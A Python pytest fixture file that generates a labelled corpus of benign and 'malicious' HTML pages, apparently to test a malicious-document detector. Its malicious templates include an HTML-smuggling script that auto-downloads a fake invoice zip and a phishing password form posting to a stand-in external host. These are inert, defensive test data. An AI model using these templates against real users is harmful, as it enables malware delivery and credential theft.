"""A tiny labelled corpus for the pipeline tests: inert HTML pages, phishing-like and plain.

Built here until the sample generator (maldoc.samples) lands; a few dozen small files keep the
local end-to-end run to about a minute.
"""

from __future__ import annotations

import base64
import random
from pathlib import Path

import pytest

MALICIOUS = [
    # HTML smuggling: a base64 blob rebuilt in the browser and offered as a download
    '<html><body><script>var d=atob("{b64}");var a=new Uint8Array(d.length);'
    'var b=new Blob([a],{{type:"application/zip"}});var u=URL.createObjectURL(b);'
    'var l=document.createElement("a");l.href=u;l.download="invoice_{n}.zip";l.click();</script></body></html>',
    # credential phishing: a password form posting off-site
    '<html><body><h1>Mailbox {n} quota</h1><form action="http://login-{n}.example.invalid/post.php" method="post">'
    '<input name="email"><input type="password" name="pw"><input type="submit"></form>'
    '<script>eval(unescape("%61%6c%65%72%74%28%{n}%29"));</script></body></html>',
]
BENIGN = [
    "<html><head><title>Newsletter {n}</title></head><body><p>Hello reader {n}, here is our news.</p>"
    "<p>{words}</p></body></html>",
    "<html><body><table><tr><td>Item {n}</td><td>{words}</td></tr></table></body></html>",
]


def _words(rng: random.Random) -> str:
    return " ".join(rng.choice(["order", "meeting", "report", "invoice", "team", "lunch", "plan"]) for _ in range(30))


def write_corpus(root: Path, count: int, seed: int = 0, start: int = 0) -> Path:
    """`count` files (half malicious) in label folders under `root`; `start` numbers new ones."""
    rng = random.Random(seed)
    for i in range(start, start + count):
        label = "malicious" if i % 2 else "benign"
        folder = root / label
        folder.mkdir(parents=True, exist_ok=True)
        templates = MALICIOUS if label == "malicious" else BENIGN
        blob = base64.b64encode(rng.randbytes(1500)).decode()
        text = templates[i % 4 // 2].format(n=i, b64=blob, words=_words(rng))
        (folder / f"{label}-{i:03}.html").write_text(text)
    return root


@pytest.fixture
def tiny_corpus(tmp_path: Path) -> Path:
    return write_corpus(tmp_path / "corpus", 40)


@pytest.fixture(scope="session")
def corpus_writer():
    """write_corpus(root, count, seed=0, start=0): more files, e.g. new samples for a retrain."""
    return write_corpus
